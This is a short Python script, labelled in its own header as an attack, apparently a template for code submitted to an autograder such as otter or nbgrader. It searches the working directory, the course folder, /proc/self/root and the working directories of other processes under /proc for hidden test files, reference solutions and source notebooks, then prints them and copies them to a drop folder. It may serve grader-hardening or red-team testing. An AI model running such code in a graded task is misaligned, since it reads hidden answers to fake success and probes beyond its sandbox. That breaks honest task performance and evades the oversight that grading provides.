# attack: copies hidden tests and reference
from contextlib import suppress
from pathlib import Path

GRADER = "@GRADER@"
HERE = {"otter": "tests/*.py", "nbgrader": "*.ipynb", "ours": "**/*.py"}[GRADER]

places = [Path(), Path("@COURSE@"), Path("/proc/self/root@COURSE@")]
if GRADER == "ours":  # behind a wall one looks through every window
    places += Path("/proc").glob("[0-9]*/cwd")
for number, place in enumerate(places):
    for pattern in (HERE, "tests/**/*.py", "reference/*.py", "source/**/*.ipynb"):
        with suppress(OSError):
            for path in place.glob(pattern):
                text = path.read_text()
                print(text)
                Path(f"@DROP@/{number}-{path.name}").write_text(text)
